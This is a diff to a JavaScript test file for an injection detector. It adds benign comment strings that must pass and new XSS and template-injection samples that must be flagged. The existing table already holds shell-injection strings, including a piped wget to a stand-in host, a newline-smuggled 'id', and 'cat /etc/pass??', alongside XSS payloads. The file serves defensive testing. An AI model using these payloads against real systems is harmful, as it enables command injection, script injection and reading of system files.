@@ -234,6 +234,8 @@ describe('Code that sentences show', () => {
     'It is the <object> identifier of the new tag',
     '`@inquirer/confirm`',
     '`type`: `string`',
+    'See <http://gcc.example/onlinedocs/faq/index.html#4_4> if you can',
+    '{{ storages | default({}) }}',
   ])('passes in a comment: %j', (text) => {
     expect(inField(text)).toBeUndefined();
   });
@@ -260,6 +262,8 @@ describe('Code that sentences show', () => {
     ['shell', "1' | 'wget' -q h.example"],
     ['shell', '127.0.0.1\nid'],
     ['xss', '<object data=a>'],
+    ['xss', '<http://h.example/ onclick=go()>'],
+    ['template', '{{ messages.storages.0.signer.key }}'],
     ['xss', 'alert`1`'],
     ['shell', 'cat /etc/pass??'],
   ])('finds %s where it is not shown: %j', (category, text) => {
